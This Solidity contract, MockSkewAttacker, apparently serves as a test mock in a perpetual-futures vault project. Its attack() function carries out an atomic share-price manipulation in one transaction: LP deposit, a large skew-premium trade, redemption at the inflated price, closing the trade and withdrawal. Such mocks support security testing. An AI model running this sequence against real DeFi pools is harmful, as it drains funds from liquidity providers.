// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IPerpVault} from "../interfaces/IPerpVault.sol";

/// @title MockSkewAttacker
/// @notice The atomic skew-premium attack on the LP share price, in one transaction with funds it
/// holds (a flash loan's stand-in): LP deposit, a large open that pays the skew premium, redeem at
/// the share price the premium inflated, close (which pays the premium back), withdraw.
contract MockSkewAttacker {
    using SafeERC20 for IERC20;

    IPerpVault public immutable vault;
    IERC4626 public immutable pool;
    IERC20 public immutable quote;

    constructor(IPerpVault vault_, IERC4626 pool_) {
        vault = vault_;
        pool = pool_;
        quote = IERC20(vault_.quoteToken());
    }

    /// @notice Runs the whole attack; what it gains stays in this contract (quote and any shares
    /// it could not redeem).
    function attack(bytes32 marketId, uint256 lpAssets, uint256 margin, int256 sizeWad) external {
        quote.forceApprove(address(pool), lpAssets);
        quote.forceApprove(address(vault), margin);
        uint256 shares = pool.deposit(lpAssets, address(this));
        vault.deposit(address(quote), margin);
        vault.trade(marketId, sizeWad, sizeWad > 0 ? type(uint256).max : 0);
        uint256 redeemable = pool.maxRedeem(address(this));
        pool.redeem(redeemable < shares ? redeemable : shares, address(this), address(this));
        vault.trade(marketId, -sizeWad, sizeWad > 0 ? 0 : type(uint256).max);
        int256 balance = vault.quoteBalance(address(this));
        if (balance > 0) vault.withdraw(address(quote), uint256(balance) / 1e12);
    }
}
